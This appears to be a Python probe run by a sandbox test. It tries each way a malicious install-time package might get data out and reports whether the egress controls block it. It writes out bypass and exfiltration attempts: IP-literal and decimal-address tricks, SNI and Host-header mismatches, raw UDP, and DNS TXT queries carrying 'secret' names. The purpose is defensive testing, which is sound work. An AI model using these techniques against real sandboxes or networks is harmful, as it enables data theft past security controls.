"""Run in the install phase's sandbox by deps_test.cc: every way out that a
malicious package's code could try, each result printed in one JSON object.
argv[1] is package_index.py's ports, its host address and the host's
nameservers. "error: ..." means the attempt failed where it was made."""
import json
import os
import socket
import ssl
import struct
import sys

a = json.loads(sys.argv[1])
EGRESS = "/run/warden/egress.sock"
seen = {}


def attempt(name, fn):
    try:
        seen[name] = fn()
    except Exception as e:  # noqa: BLE001 - the failure is the result
        seen[name] = "error: %s: %s" % (type(e).__name__, e)


def through_proxy(head):
    """Sends a request head to the proxy; returns the socket and the status."""
    s = socket.socket(socket.AF_UNIX, socket.SOCK_STREAM)
    s.settimeout(10)
    s.connect(EGRESS)
    s.sendall(head.encode())
    answer = b""
    while b"\r\n\r\n" not in answer:
        chunk = s.recv(4096)
        if not chunk:
            break
        answer += chunk
    status = answer.split(b" ")[1].decode() if answer.startswith(b"HTTP/") else "closed"
    return s, status


def connect(host, port):
    s, status = through_proxy("CONNECT %s:%d HTTP/1.1\r\nHost: %s:%d\r\n\r\n" % (host, port, host, port))
    s.close()
    return status


def tls_get(connect_host, server_name, port, verify):
    s, status = through_proxy("CONNECT %s:%d HTTP/1.1\r\nHost: %s:%d\r\n\r\n"
                              % (connect_host, port, connect_host, port))
    if status != "200":
        return "connect " + status
    if verify:
        context = ssl.create_default_context(cafile="/tmp/ca.pem")
    else:
        context = ssl.SSLContext(ssl.PROTOCOL_TLS_CLIENT)
        context.check_hostname = False
        context.verify_mode = ssl.CERT_NONE
    t = context.wrap_socket(s, server_hostname=server_name)
    t.sendall(("GET /simple/ HTTP/1.1\r\nHost: %s\r\nConnection: close\r\n\r\n" % server_name).encode())
    answer = t.recv(100)
    t.close()
    if not answer:
        return "error: closed"
    return answer.split(b" ")[1].decode()


def http_get(url, host_header):
    s, status = through_proxy("GET %s HTTP/1.1\r\nHost: %s\r\nConnection: close\r\n\r\n" % (url, host_header))
    s.close()
    return status


def direct_tcp(host, port):
    socket.create_connection((host, port), timeout=3).close()
    return "connected"


def dns_query(name, qtype):
    header = struct.pack(">HHHHHH", 0x1234, 0x0100, 1, 0, 0, 0)
    question = b"".join(bytes([len(p)]) + p.encode() for p in name.split(".")) + b"\0"
    return header + question + struct.pack(">HH", qtype, 1)


def udp(host, port, payload):
    u = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    u.settimeout(2)
    u.sendto(payload, (host, port))
    try:
        u.recvfrom(512)
        return "answered"
    except socket.timeout:
        return "sent, no answer"


host = a["host_address"] or "192.0.2.1"
index_https, forbidden_https = a["index_https"], a["forbidden_https"]

attempt("allowed", lambda: tls_get("index.test", "index.test", index_https, True))
attempt("connect_forbidden_name", lambda: connect("forbidden.test", forbidden_https))
attempt("connect_ip_literal", lambda: connect("127.0.0.1", forbidden_https))
attempt("connect_ip_literal_index_port", lambda: connect("127.0.0.1", index_https))
attempt("connect_decimal_literal", lambda: connect("2130706433", index_https))
attempt("connect_index_wrong_port", lambda: connect("index.test", forbidden_https))
attempt("sni_mismatch", lambda: tls_get("index.test", "forbidden.test", index_https, False))
attempt("http_forbidden", lambda: http_get("http://forbidden.test:%d/simple/" % a["forbidden_http"],
                                           "forbidden.test:%d" % a["forbidden_http"]))
attempt("http_host_mismatch", lambda: http_get("http://index.test:%d/simple/" % a["index_http"],
                                               "forbidden.test"))
attempt("tcp_host", lambda: direct_tcp(host, a["tcp"]))
attempt("tcp_loopback_forbidden", lambda: direct_tcp("127.0.0.1", a["forbidden_http"]))
attempt("udp_host", lambda: udp(host, a["udp"], b"exfiltrated"))
attempt("dns_txt_to_host", lambda: udp(host, a["udp"], dns_query("secret.forbidden.test", 16)))
for i, server in enumerate(a["nameservers"] + ["8.8.8.8"]):
    attempt("dns_a_%d" % i, lambda: udp(server, 53, dns_query("secret.example.com", 1)))
    attempt("dns_txt_%d" % i, lambda: udp(server, 53, dns_query("secret.example.com", 16)))
attempt("getaddrinfo_forbidden", lambda: str(socket.getaddrinfo("forbidden.test", 443)))
attempt("getaddrinfo_outside", lambda: str(socket.getaddrinfo("example.com", 443)))
attempt("raw_icmp", lambda: socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_ICMP) and "opened")
# /proc/net/dev rather than if_nameindex(), whose netlink socket seccomp refuses.
attempt("interfaces", lambda: sorted(line.split(":")[0].strip()
                                     for line in open("/proc/net/dev").read().splitlines()[2:]))
print(json.dumps(seen))
